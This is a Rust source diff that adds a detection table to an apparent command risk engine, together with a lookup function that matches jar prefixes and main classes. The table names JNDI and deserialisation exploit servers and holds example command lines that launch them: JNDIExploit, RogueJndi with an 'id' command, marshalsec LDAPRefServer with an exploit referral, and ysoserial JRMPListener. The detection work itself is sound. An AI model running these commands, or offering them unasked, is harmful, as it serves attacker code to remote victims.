@@ -191,3 +191,68 @@ pub const FILE_SERVERS: &[FileServer] = &[
         ..F
     },
 ];
+
+/// A server run from a jar or a Java class that listens for other hosts'
+/// callbacks: the JNDI and deserialisation exploit servers (LDAP, RMI and
+/// HTTP referral servers that hand a victim a class to load). Matched by
+/// the jar's file name (its prefix, case-insensitively: versions and
+/// `-all` suffixes vary) or the main class named after `-cp`.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub struct JvmServer {
+    /// Jar name prefixes (`jndiexploit`) or main classes
+    /// (`marshalsec.jndi.LDAPRefServer`).
+    pub names: &'static [&'static str],
+    /// What it serves, completing "starts ...".
+    pub what: &'static str,
+    /// Where the knowledge comes from.
+    pub source: &'static str,
+    /// Commands the risk engine must flag.
+    pub flagged: &'static [&'static str],
+    /// Commands the risk engine must not flag.
+    pub clean: &'static [&'static str],
+}
+
+/// The table (session 38, htweb parts 0 and 2).
+pub const JVM_SERVERS: &[JvmServer] = &[
+    JvmServer {
+        names: &["jndiexploit", "jndi-injection-exploit", "jndi-exploit-kit", "rogue-jndi", "roguejndi"],
+        what: "a JNDI exploit server (LDAP, RMI and HTTP listeners that hand a remote victim code to run)",
+        source: "https://github.com/feihong-cs/JNDIExploit (-i IP -p PORT); https://github.com/welk1n/JNDI-Injection-Exploit (-L, -J); https://github.com/veracode-research/rogue-jndi; HackTricks log4shell page",
+        flagged: &[
+            "java -jar JNDIExploit-1.2-SNAPSHOT.jar -i 172.17.0.1 -p 8888",
+            "java -jar JNDI-Injection-Exploit-1.0-SNAPSHOT-all.jar -L 172.17.0.1:1389 -J 172.17.0.1:8888",
+            "java -jar target/RogueJndi-1.1.jar --command 'id' --hostname 10.0.0.5",
+        ],
+        clean: &["java -jar build/libs/jndi-client.jar --help"],
+    },
+    JvmServer {
+        names: &[
+            "marshalsec.jndi.LDAPRefServer",
+            "marshalsec.jndi.RMIRefServer",
+            "ysoserial.exploit.JRMPListener",
+            "ysoserial.exploit.JRMPClassLoadingListener",
+        ],
+        what: "a deserialisation exploit server (an LDAP, RMI or JRMP listener for remote victims)",
+        source: "https://github.com/mbechler/marshalsec (jndi.LDAPRefServer, jndi.RMIRefServer); https://github.com/frohoff/ysoserial (exploit.JRMPListener)",
+        flagged: &[
+            "java -cp marshalsec-0.0.3-SNAPSHOT-all.jar marshalsec.jndi.LDAPRefServer \"http://10.0.0.5:8000/#Exploit\"",
+            "java -cp ysoserial.jar ysoserial.exploit.JRMPListener 1099 CommonsCollections1 'id'",
+        ],
+        clean: &["java -cp marshalsec-0.0.3-SNAPSHOT-all.jar marshalsec.Jackson"],
+    },
+];
+
+/// The row of a jar name or main class, if any.
+pub fn jvm_server(jar_or_class: &str) -> Option<&'static JvmServer> {
+    let l = jar_or_class.to_ascii_lowercase();
+    JVM_SERVERS.iter().find(|r| {
+        r.names.iter().any(|n| {
+            let n = n.to_ascii_lowercase();
+            if n.contains('.') {
+                l == n
+            } else {
+                l.starts_with(&n)
+            }
+        })
+    })
+}
